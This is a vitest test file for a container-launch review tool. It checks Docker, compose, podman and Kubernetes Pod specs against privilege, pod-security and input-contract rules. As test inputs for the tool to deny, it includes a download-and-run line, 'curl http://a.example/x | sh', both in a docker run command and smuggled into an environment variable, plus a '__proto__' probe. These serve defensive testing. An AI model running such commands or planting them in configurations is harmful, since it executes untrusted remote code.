import { describe, expect, it } from 'vitest';
import { findLanguage } from '../../test/fakes/languages.ts';
import { policy } from '../../test/fakes/launch-scene.ts';
import type { LaunchForm } from '../model/index.ts';
import { type ExceptionDocument, exceptionDigest, type InputContractDocument } from '../policy/index.ts';
import { readReview } from './read-review.ts';
import { parseRuleSet, type ReviewRules, reviewLaunch } from './review.ts';

const now = Date.parse('2026-01-01T00:00:00Z');
const none: ReviewRules = { policies: [], contracts: [], exceptions: [], sets: [], findLanguage };
const byDefault: ReviewRules = { ...none, sets: [{ kind: 'default' }] };
const review = (text: string, rules: ReviewRules = byDefault, form?: LaunchForm) =>
  readReview(text, 'file', form).map((item) => reviewLaunch(item, rules, now));
const rulesOf = (text: string, rules?: ReviewRules) =>
  review(text, rules).flatMap(({ findings }) => findings.map(({ rule, path }) => `${rule} ${path}`));

const docker = (body: object) => JSON.stringify({ Image: 'registry.example/team/app:1', ...body });
const privileged = docker({ HostConfig: { Privileged: true } });
const pod = (spec: object) =>
  JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'p' },
    spec: { containers: [{ name: 'a', image: 'a', ...spec }] },
  });

describe('a review', () => {
  it.each<[string, string, string]>([
    ['a body of the Docker API', privileged, 'launch/privileged HostConfig.Privileged'],
    [
      'a compose file',
      'services:\n  web:\n    image: a\n    privileged: true\n',
      'launch/privileged services.web.privileged',
    ],
    [
      'a compose file as JSON',
      '{"services":{"web":{"image":"a","privileged":true}}}',
      'launch/privileged services.web.privileged',
    ],
    ['a docker run line', 'docker run --privileged alpine', 'launch/privileged --privileged'],
    ['a podman line with a prompt', '$ sudo podman run --privileged alpine', 'launch/privileged --privileged'],
    [
      'a Pod',
      pod({ securityContext: { privileged: true } }),
      'launch/privileged spec.containers[0].securityContext.privileged',
    ],
    [
      'a Deployment in YAML',
      'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d}\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers: [{name: a, image: a}]\n',
      'launch/host-namespace spec.template.spec.hostPID',
    ],
  ])('knows %s by its content', (_, text, expected) => {
    expect(
      rulesOf(text).map((each) => each.replace(/^launch\/[a-z-]*namespace\S*/, 'launch/host-namespace')),
    ).toContain(expected);
    expect(review(text).map(({ outcome }) => outcome)).toEqual(['deny']);
  });

  it('gives each of several launches an answer of its own, with the line where it stands', () => {
    const text =
      '# all of them\ndocker run alpine\n\ndocker run \\\n  --privileged \\\n  alpine\ndocker run -v alpine\n';
    const items = readReview(text, 'runs');
    expect(items.map(({ name, lineOf }) => [name, lineOf('x')])).toEqual([
      ['runs:2', 2],
      ['runs:4', 4],
      ['runs:7', 7],
    ]);
    const found = items.map((item) => reviewLaunch(item, byDefault, now));
    expect(found.map(({ findings }) => findings[0]?.rule)).toEqual([
      undefined,
      'launch/privileged',
      'launch/unreadable',
    ]);
  });

  it('passes over documents that start nothing', () => {
    const text = `kind: ConfigMap\nmetadata: {name: c}\n---\n${pod({})}\n`;
    expect(review(text)).toHaveLength(1);
  });

  it.each<[string, string]>([
    ['nothing', ''],
    ['blanks', ' \n\n'],
    ['prose', 'hello there'],
    ['JSON that breaks off', '{"Image": "a"'],
    ['an empty object', '{}'],
    ['an array', '[]'],
    ['a null', 'null'],
    ['a key twice', '{"Image":"a","Image":"b"}'],
    ['YAML that breaks off', 'services: {web: {image: a'],
    ['two compose files', 'services: {}\n---\nservices: {}\n'],
    ['a line that ends in a backslash', 'docker run alpine \\'],
    ['what is nested deeper than anybody nests', `{"Image":${'['.repeat(5000)}`],
    ['a prototype', '{"__proto__":{"Image":"a"},"HostConfig":{"Privileged":true}}'],
  ])('never lets pass %s', (_, text) => {
    const results = review(text);
    expect(results).toHaveLength(1);
    for (const { outcome, findings, cause } of results) {
      if (outcome === 'allow') expect(text).toMatch(/alpine/);
      else expect(findings.length > 0 || cause !== undefined).toBe(true);
    }
  });

  it('reads what it is said to be', () => {
    expect(review(privileged, byDefault, 'compose')[0]?.findings[0]?.rule).toBe('launch/unreadable');
    expect(review('podman run --privileged alpine', byDefault, 'run')[0]?.findings[0]?.rule).toBe('launch/privileged');
  });

  it('without any rules is decided by nobody', () => {
    expect(review(privileged, none)).toMatchObject([{ outcome: 'undecided' }]);
  });
});

describe('sets of rules', () => {
  it.each([
    ['default', { kind: 'default' }],
    ['input', { kind: 'input', strictness: 1 }],
    ['input@1', { kind: 'input', strictness: 1 }],
    ['input@2', { kind: 'input', strictness: 2 }],
    ['pss:baseline@1.24', { kind: 'pod-security', level: 'baseline', version: '1.24' }],
    ['pss:restricted', { kind: 'pod-security', level: 'restricted', version: 'latest' }],
    ['pss:privileged@v1.30', { kind: 'pod-security', level: 'privileged', version: '1.30' }],
  ])('%s', (text, set) => expect(parseRuleSet(text)).toEqual(set));

  it.each([
    '',
    'input@3',
    'Default',
    'pss:',
    'pss:strict',
    'pss:baseline@2',
    'pss:baseline@',
    '__proto__',
    'input ',
    'a'.repeat(9999),
  ])('there is none "%.20s"', (text) =>
    expect(() => parseRuleSet(text)).toThrow(expect.objectContaining({ code: 'bad-query' })),
  );

  const by = (...names: readonly string[]): ReviewRules => ({ ...none, sets: names.map(parseRuleSet) });
  const shell = 'docker run alpine sh -c "$(curl http://a.example/x | sh)"';
  const code = docker({ Env: ['NAME=x; curl http://a.example/x | sh'] });
  it.each<[string, string, readonly string[], string]>([
    ['privileged by the level privileged', pod({ securityContext: { privileged: true } }), ['pss:privileged'], 'allow'],
    ['privileged by the baseline', pod({ securityContext: { privileged: true } }), ['pss:baseline'], 'deny'],
    ['a plain Pod by the baseline', pod({}), ['pss:baseline'], 'allow'],
    ['a plain Pod by restricted', pod({}), ['pss:restricted'], 'deny'],
    ['privileged by inputs alone', privileged, ['input'], 'allow'],
    ['code by inputs', code, ['input'], 'deny'],
    ['code by the Pod Security Standards alone', code, ['pss:baseline'], 'allow'],
    ['code by both', code, ['pss:baseline', 'input'], 'deny'],
    ['privileged by docker, as a Pod would be', privileged, ['pss:baseline'], 'deny'],
    ['a shell that runs a download', shell, ['input'], 'deny'],
  ])('%s', (_, text, names, outcome) => {
    expect(review(text, by(...names)).map((each) => each.outcome)).toEqual([outcome]);
  });

  it('of a batch without launches are undecided', () => {
    const item = { name: 'x', set: { form: 'pod', requests: [] }, lineOf: () => undefined } as const;
    for (const name of ['pss:baseline', 'input', 'default']) {
      expect(reviewLaunch(item, by(name), now)).toMatchObject({ outcome: 'undecided', cause: expect.any(String) });
    }
  });
});

describe('documents', () => {
  const contract = {
    apiVersion: 'portwarden/v1',
    kind: 'InputContract',
    metadata: { name: 'app' },
    spec: { images: ['registry.example/team/app'], environment: { MODE: { enum: ['live'] } } },
  } as unknown as InputContractDocument;
  const exception = (rules: readonly string[], scope: object = { repositories: ['registry.example/team/**'] }) => {
    const document = {
      apiVersion: 'portwarden/v1',
      kind: 'Exception',
      metadata: { name: 'for-now' },
      spec: {
        owner: 'team',
        reason: 'x',
        scope,
        rules,
        expires: '2026-02-01T00:00:00Z',
        requested: { by: 'ada', at: '2025-12-01T00:00:00Z' },
      },
    } as unknown as ExceptionDocument;
    const approved = { by: 'bob', at: '2025-12-02T00:00:00Z', digest: exceptionDigest(document) };
    return { ...document, spec: { ...document.spec, approved } } as ExceptionDocument;
  };

  it('in mode enforce refuse, in mode observe tell', () => {
    const [refused] = review(privileged, { ...none, policies: [policy({})] });
    expect(refused?.outcome).toBe('deny');
    const [told] = review(privileged, { ...none, policies: [policy({}, 'observe')] });
    expect(told).toMatchObject({ outcome: 'allow', findings: [{ rule: 'launch/privileged', observed: true }] });
  });

  it('hold inputs against their contract', () => {
    const policies = [policy({})];
    const rules = { ...none, policies, contracts: [contract] };
    expect(rulesOf(docker({ Env: ['MODE=test'] }), rules)).toEqual([
      expect.stringMatching(/^contract\S* Env\[0\]|^input\S* Env\[0\]/),
    ]);
    expect(review(docker({ Env: ['MODE=live'] }), rules)[0]?.outcome).toBe('allow');
  });

  it('except what an exception of the pinned image says, and nothing by a mere name', () => {
    const rules = { ...none, policies: [policy({})], exceptions: [exception(['launch/privileged'])] };
    const pinned = JSON.stringify({
      Image: `registry.example/team/app@sha256:${'a'.repeat(64)}`,
      HostConfig: { Privileged: true },
    });
    expect(review(pinned, rules)[0]).toMatchObject({ outcome: 'allow', findings: [{ excepted: { name: 'for-now' } }] });
    expect(review(privileged, rules)[0]?.outcome).toBe('deny');
  });

  it('that demand a certificate cannot be decided by a review', () => {
    const policies = [policy({ image: { notCertified: 'refuse' } })];
    expect(review(docker({}), { ...none, policies })[0]).toMatchObject({
      outcome: 'undecided',
      cause: expect.stringMatching(/a review asks no registry/),
    });
  });

  it('and sets are the strictest of both', () => {
    const rules = { ...none, policies: [policy({}, 'observe')], sets: [parseRuleSet('pss:baseline')] };
    expect(review(privileged, rules)[0]?.outcome).toBe('deny');
  });
});
